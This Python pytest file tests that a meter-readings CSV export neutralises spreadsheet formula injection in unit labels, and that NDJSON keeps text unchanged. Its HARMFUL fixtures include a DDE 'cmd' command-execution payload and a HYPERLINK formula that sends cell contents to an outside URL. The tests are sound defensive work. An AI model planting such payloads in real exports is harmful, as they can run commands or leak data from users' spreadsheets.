"""Texts in a CSV export: no spreadsheet takes one for a formula, and what is none stays as it is."""

import csv
import io
import json
import re
from collections.abc import Sequence
from datetime import UTC, datetime
from random import Random

import httpx2
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.services.query.data import add_readings
from tests.support.registry import Building, create_building
from tests.support.tokens import Headers

FORMULAS = "=+-@\uff1d\uff0b\uff0d\uff20"
HARMFUL = {
    "=1+1": "'=1+1",
    "+45 86 12 34 56": "'+45 86 12 34 56",
    "-1. sal": "'-1. sal",
    "@SUM(A1)": "'@SUM(A1)",
    "  =1+1": "'  =1+1",
    "\u00a0=1+1": "'\u00a0=1+1",
    "\t=1+1": "'\t'=1+1",
    "\tflat": "'\tflat",
    "\rflat": "'\rflat",
    "\nflat": "'\nflat",
    "\uff1d1+1": "'\uff1d1+1",
    '"=1+1"': '\'"=1+1"',
    'flat;=cmd|"/c calc"!A1': 'flat;\'=cmd|"/c calc"!A1',
    "flat\r\n=1+1": "flat\r'\n'=1+1",
    '=HYPERLINK("https://example.com?"&A1;"x")': '\'=HYPERLINK("https://example.com?"&A1;"x")',
}
HARMLESS = [
    "2. tv",
    "",
    "'quoted",
    'a "b" c',
    "a=b",
    "1-2",
    "me@example.com",
    "Kælder, 2",
    "Vej 1, -2. th",
    "a;b",
    "Ærø 😀",
    "it's",
    "\\N",
]


async def labels_as(
    client: httpx2.AsyncClient, engine: AsyncEngine, headers: Headers, labels: Sequence[str], query: str
) -> dict[str, str]:
    """What an export makes of each, as a label."""
    building = await create_building(engine, meters=len(labels))
    await relabel(engine, building, labels)
    answer = await client.get(f"/readings/export?{query}", headers=headers(building.tenant_id))
    assert answer.status_code == 200
    if "ndjson" in query:
        rows = [json.loads(line) for line in answer.text.rstrip("\n").split("\n")]
    else:
        file = io.StringIO(answer.content.decode("utf-8-sig"), newline="")
        rows = list(csv.DictReader(file, delimiter=";" if "comma" in query else ",", strict=True))
    assert len(rows) == len(labels)
    of_installation = dict(zip(map(str, building.installation_ids), labels, strict=True))
    return {of_installation[row["meter_installation_id"]]: row["unit_label"] for row in rows}


async def relabel(engine: AsyncEngine, building: Building, labels: Sequence[str]) -> None:
    """Give each meter a unit of its own, and a reading."""
    async with engine.begin() as connection:
        for installation_id, label in zip(building.installation_ids, labels, strict=True):
            await connection.execute(
                text(
                    "WITH flat AS (INSERT INTO unit (property_id, label) VALUES (:house, :label) RETURNING id)"
                    " UPDATE meter_installation SET unit_id = flat.id FROM flat WHERE meter_installation.id = :id"
                ),
                {"house": building.property_id, "label": label, "id": installation_id},
            )
    for installation_id in building.installation_ids:
        await add_readings(engine, installation_id, [datetime(2026, 11, 1, tzinfo=UTC)])


@pytest.mark.parametrize("query", ["", "decimal=comma"])
async def test_a_text_that_would_be_a_formula_has_an_apostrophe_before_it(
    client: httpx2.AsyncClient, engine: AsyncEngine, headers: Headers, query: str
) -> None:
    expected = HARMFUL | {harmless: harmless for harmless in HARMLESS}
    assert await labels_as(client, engine, headers, list(expected), query) == expected


async def test_ndjson_has_the_texts_as_they_are(
    client: httpx2.AsyncClient, engine: AsyncEngine, headers: Headers
) -> None:
    labels = [*HARMFUL, *HARMLESS]
    assert await labels_as(client, engine, headers, labels, "format=ndjson") == {label: label for label in labels}


async def test_whatever_a_text_is_it_is_one_cell_and_begins_no_formula_also_where_it_is_cut_at_another_separator(
    client: httpx2.AsyncClient, engine: AsyncEngine, headers: Headers
) -> None:
    random = Random(7)  # the same every time
    alphabet = f"{FORMULAS},;\t\r\n \u00a0\"'a1.\\"
    labels = list({"".join(random.choices(alphabet, k=random.randrange(1, 9))) for _ in range(300)})
    cells = await labels_as(client, engine, headers, labels, "")
    for label, cell in cells.items():
        for part in re.split(r"[;\t\r\n]", cell):
            assert not part.lstrip(' \u00a0"').startswith(tuple(FORMULAS)), (label, cell)
        assert not cell.startswith(("\t", "\r", "\n")), (label, cell)
        assert len(cell) - cell.count("'") == len(label) - label.count("'")
        assert cell.replace("'", "") == label.replace("'", "")


async def test_a_negative_number_stays_a_number(
    client: httpx2.AsyncClient, engine: AsyncEngine, headers: Headers
) -> None:
    building = await create_building(engine, meters=1)
    await add_readings(engine, building.installation_ids[0], [datetime(2026, 11, 1, tzinfo=UTC)])
    async with engine.begin() as connection:
        await connection.execute(text("UPDATE reading SET value = -3e-06"))
    answer = await client.get("/readings/export", headers=headers(building.tenant_id))
    (row,) = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    assert (row["value"], row["rssi_dbm"]) == ("-3e-06", "-70")
